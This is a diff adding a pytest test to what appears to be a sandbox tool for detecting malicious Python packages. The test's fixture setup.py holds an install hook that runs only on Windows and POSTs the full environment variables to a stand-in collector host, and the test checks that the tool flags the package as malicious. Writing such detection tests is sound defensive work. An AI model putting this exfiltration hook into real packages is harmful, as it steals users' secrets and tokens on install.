@@ -340,3 +340,29 @@ def test_a_sandbox_that_dies_of_its_memory_keeps_the_evidence(
                for note in result["notes"]), result["notes"]
     assert result["phases"]["import"]["status"] == "skipped"
     assert result["verdict"] == "malicious"
+
+
+def test_a_setup_script_gated_on_windows_runs_in_the_persona_pass(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    """The sdist is unpacked with the sandbox's own Python (Debian's 3.11.2) and its
+    setup.py's command class runs as if on Windows."""
+    source = tmp_path / "wingate-setup"
+    source.mkdir()
+    (source / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: wingate-setup\nVersion: 0.1\n")
+    (source / "setup.py").write_text(
+        "import json, os, urllib.request\nfrom setuptools import setup\n"
+        "from setuptools.command.install import install\n\n\nclass Hook(install):\n"
+        "    def run(self):\n        install.run(self)\n        if os.name == 'nt':\n"
+        "            urllib.request.urlopen(urllib.request.Request('https://win.collector."
+        "example/x', data=json.dumps(dict(os.environ)).encode(), method='POST'), timeout=5)\n\n\n"
+        "setup(name='wingate-setup', version='0.1', cmdclass={'install': Hook})\n")
+    from tests.packages import build_sdist
+
+    result = analyze_json(capsys, str(build_sdist(source, tmp_path)))
+    persona = result["phases"]["persona"]
+    assert "ran the install command as if on Windows" in persona["output_tail"], \
+        persona["output_tail"]
+    assert any(leak["channel"] == "http" for leak in persona["leaks"])
+    assert not result["phases"]["install"]["leaks"]
+    assert result["verdict"] == "malicious"
